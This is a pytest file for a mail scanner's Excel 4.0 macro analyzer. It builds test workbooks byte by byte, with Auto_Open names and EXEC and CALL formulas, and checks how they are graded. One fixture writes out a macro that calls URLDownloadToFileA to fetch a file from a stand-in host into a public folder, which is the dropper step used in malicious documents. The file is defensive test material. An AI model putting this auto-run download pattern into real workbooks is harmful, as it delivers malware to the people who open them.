"""Excel 4.0 (XLM) macros in BIFF8 (.xls/.xlt) and BIFF12 (.xlsb) workbooks built here, graded by what they call.

The workbooks are written record by record from MS-XLS / MS-XLSB (harmless formulas: ``echo``), the
BIFF8 ones inside a compound file written by extract-msg's OLE writer (olefile cannot write).
"""

from __future__ import annotations

import io
import struct
import time
import uuid
import zipfile

import pytest
from extract_msg.ole_writer import OleWriter

from coinguard.analyzers.office import OfficeMacros, biff12_formulas
from coinguard.findings import Finding, VerdictKind
from coinguard.scan import ScanContext, scan_message
from coinguard.sniff import sniff

from helpers import codes, make_context, make_message, read_corpus_sample, run_handler, zip_bytes

EXCEL_CLSID = uuid.UUID("00020820-0000-0000-C000-000000000046").bytes_le
EXEC, CALL, HALT, ALERT = 0x006E, 0x0096, 0x0036, 0x8076


# -- BIFF8: a Workbook stream of records (type, size, data) ----------------------------------------------
def _rec(kind: int, data: bytes) -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def _bof(dt: int) -> bytes:
    return _rec(0x0809, struct.pack("<HHHHII", 0x0600, dt, 0x0DBB, 0x07CC, 0, 6))


def biff8_str(text: str) -> bytes:
    """PtgStr: 8-bit character count, fHighByte 0, Latin-1 characters."""
    return b"\x17" + bytes([len(text), 0]) + text.encode("latin-1")


def biff8_call(number: int, argc: int) -> bytes:
    """PtgFuncVar (value class): argument count, function number."""
    return b"\x42" + bytes([argc]) + struct.pack("<H", number)


def biff8_workbook(cells: list[bytes], *, auto_open: bool, macro_sheet: bool = True, clsid: bytes = b"") -> bytes:
    """A workbook whose one sheet (a hidden macro sheet, or a worksheet) holds ``cells`` in column A."""
    formulas = b"".join(_rec(0x0006, struct.pack("<HHH", row, 0, 0) + bytes(8) + struct.pack("<HIH", 0, 0, len(rgce))
                             + rgce) for row, rgce in enumerate(cells))
    sheet = _bof(0x0040 if macro_sheet else 0x0010) + formulas + _rec(0x000A, b"")
    names = b""
    if auto_open:  # built-in name 1 (Auto_Open) -> Macro1!A1 (PtgRef3d)
        ref = b"\x3a" + struct.pack("<HHH", 0, 0, 0)
        names = _rec(0x0018, struct.pack("<HBBHHH4B", 0x0020, 0, 1, len(ref), 0, 0, 0, 0, 0, 0) + b"\x00\x01" + ref)

    def globals_(sheet_at: int) -> bytes:
        bound = struct.pack("<IBB", sheet_at, 1, 1 if macro_sheet else 0) + bytes([6, 0]) + b"Macro1"
        return _bof(0x0005) + _rec(0x0085, bound) + names + _rec(0x000A, b"")

    stream = globals_(len(globals_(0))) + sheet
    writer = OleWriter(rootClsid=clsid) if clsid else OleWriter()
    writer.addEntry("Workbook", stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# -- BIFF12: records with variable-length type and size --------------------------------------------------
def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
        n >>= 7
        if not n:
            return bytes(out)


def _brt(kind: int, data: bytes = b"") -> bytes:
    return _varint(kind) + _varint(len(data)) + data


def biff12_str(text: str) -> bytes:
    return b"\x17" + struct.pack("<H", len(text)) + text.encode("utf-16-le")


def xlsb_workbook(cells: list[bytes], *, auto_open: bool) -> bytes:
    rows = b""
    for row, rgce in enumerate(cells):
        rows += _brt(0x0000, struct.pack("<I", row) + bytes(21))  # BrtRowHdr
        value = struct.pack("<I", 0)  # the cached string result: empty XLWideString
        rows += _brt(0x0008, struct.pack("<II", 0, 0) + value + struct.pack("<HI", 0, len(rgce)) + rgce + bytes(4))
    sheet = _brt(0x0081) + _brt(0x0091) + rows + _brt(0x0092) + _brt(0x0082)
    name = "Auto_Open" if auto_open else "Report_Range"
    brt_name = struct.pack("<IBI", 0x20 if auto_open else 0, 0, 0xFFFFFFFF) + struct.pack("<I", len(name))
    brt_name += name.encode("utf-16-le") + struct.pack("<I", 7) + b"\x3a" + bytes(6) + bytes(4)
    workbook = _brt(0x0083) + _brt(0x0027, brt_name) + _brt(0x0084)
    ctypes = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
              b'<Override PartName="/xl/macrosheets/sheet1.bin" ContentType="application/'
              b'vnd.ms-excel.macrosheet"/></Types>')
    return zip_bytes({"[Content_Types].xml": ctypes, "xl/workbook.bin": workbook, "xl/macrosheets/sheet1.bin": sheet})


def xlm(data: bytes, name: str) -> tuple[set[str], list[Finding]]:
    findings, _ = run_handler(OfficeMacros(), data, name)
    return {c for c in codes(findings) if c.startswith("office.xlm")}, findings


def detail(findings: list[Finding], code: str) -> str:
    return next(f.detail for f in findings if f.code == code)


RUN_CMD = [biff8_str("cmd /c echo harmless-test") + biff8_call(EXEC, 1), biff8_call(HALT, 0)]


@pytest.mark.parametrize("clsid", [EXCEL_CLSID, b""], ids=["excel-clsid", "no-clsid"])
def test_biff8_auto_open_exec_is_conclusive(clsid: bytes) -> None:
    data = biff8_workbook(RUN_CMD, auto_open=True, clsid=clsid)
    assert sniff(data) == "ole.xls"
    found, findings = xlm(data, "invoice.xls")
    assert found == {"office.xlm.macros", "office.xlm.autoexec", "office.xlm.autoexec_exec"}
    assert detail(findings, "office.xlm.autoexec_exec") == "Auto_Open + EXEC"


def test_biff8_auto_open_without_calls_is_still_conclusive() -> None:
    data = biff8_workbook([biff8_str("Hello") + biff8_call(ALERT, 1)], auto_open=True, clsid=EXCEL_CLSID)
    found, _ = xlm(data, "template.xlt")
    assert found == {"office.xlm.macros", "office.xlm.autoexec"}
    verdict = scan_message(make_message(attachments=[("template.xlt", data)]), ScanContext())
    assert verdict.verdict is VerdictKind.MALICIOUS  # auto-running XLM, no crypto theme needed
    assert verdict.strengths()["office.xlm.autoexec"] == "conclusive"


def test_biff8_exec_without_auto_open_is_graded_by_the_call() -> None:
    found, findings = xlm(biff8_workbook(RUN_CMD, auto_open=False), "report.xls")
    assert found == {"office.xlm.macros", "office.xlm.exec"}
    assert detail(findings, "office.xlm.exec") == "EXEC"
    # a macro sheet that only shows a message and stops is present, not proof
    found, _ = xlm(biff8_workbook([biff8_str("Hi") + biff8_call(ALERT, 1)], auto_open=False), "r.xls")
    assert found == {"office.xlm.macros"}


def test_biff8_worksheet_formulas_are_not_macros() -> None:
    data = biff8_workbook([biff8_str("cmd") + biff8_call(EXEC, 1)], auto_open=False, macro_sheet=False)
    assert xlm(data, "budget.xls")[0] == set()


def test_xlsb_macro_sheet_formulas_are_decoded() -> None:
    cells = [biff12_str("cmd /c echo harmless-test") + biff8_call(EXEC, 1), biff8_call(HALT, 0)]
    data = xlsb_workbook(cells, auto_open=True)
    assert sniff(data) == "ooxml.excel"
    found, findings = xlm(data, "invoice.xlsb")
    assert found == {"office.xlm.macros", "office.xlm.autoexec", "office.xlm.autoexec_exec"}
    assert detail(findings, "office.xlm.autoexec_exec") == "Auto_Open + EXEC"


def test_xlsb_call_to_a_dll_without_auto_open() -> None:
    args = b"".join(biff12_str(s) for s in ("urlmon", "URLDownloadToFileA", "JJCCJJ"))
    args += b"\x1e\x00\x00" + biff12_str("http://192.0.2.10/a.txt") + biff12_str("C:\\Users\\Public\\a.txt")
    args += b"\x1e\x00\x00\x1e\x00\x00"
    cells = [args + biff8_call(CALL, 7)]
    found, findings = xlm(xlsb_workbook(cells, auto_open=False), "statement.xlsb")
    assert found == {"office.xlm.macros", "office.xlm.exec"}
    assert detail(findings, "office.xlm.exec") == "CALL; IOCs: http://192.0.2.10/a.txt"


def test_biff12_formula_rendering_and_bad_input() -> None:
    sheet = xlsb_workbook([biff12_str("a") + biff12_str("b") + b"\x08" + biff8_call(EXEC, 1)], auto_open=False)
    with zipfile.ZipFile(io.BytesIO(sheet)) as zf:
        raw = zf.read("xl/macrosheets/sheet1.bin")
    assert biff12_formulas(raw, make_context()) == ['=EXEC("a"&"b")']
    # a truncated sheet, an unknown token and garbage give what could be read, never an exception
    assert biff12_formulas(raw[: len(raw) // 2], make_context()) == []
    assert biff12_formulas(_brt(0x0008, bytes(14) + struct.pack("<I", 2) + b"\xff\x00"), make_context()) == ["="]
    assert biff12_formulas(b"\xff" * 64, make_context()) == []


@pytest.mark.corpus
def test_corpus_xlsb_formulas() -> None:
    data = read_corpus_sample("maldocs/oletools/excel4_sample_macro.xlsb.zip")
    _, children = run_handler(OfficeMacros(), data, "excel4_sample_macro.xlsb")
    assert b'=ALERT("This is a sample Excel 4 macro")' in children[0].data
    assert b"=HALT()" in children[0].data


def test_deeply_nested_formulas_cost_little() -> None:
    """Nested calls copy their arguments: a sheet of maximal formulas of CHAR(CHAR(CHAR(...))) stays fast."""
    rgce = biff12_str("x" * 2000) + biff8_call(0x006F, 1) * 6000
    cell = _brt(0x0008, struct.pack("<II", 0, 0) + struct.pack("<I", 0) + struct.pack("<HI", 0, len(rgce)) + rgce)
    started = time.monotonic()
    formulas = biff12_formulas(cell * 300, make_context())
    assert len(formulas) == 300 and all(len(f) <= 1100 for f in formulas)
    assert time.monotonic() - started < 5
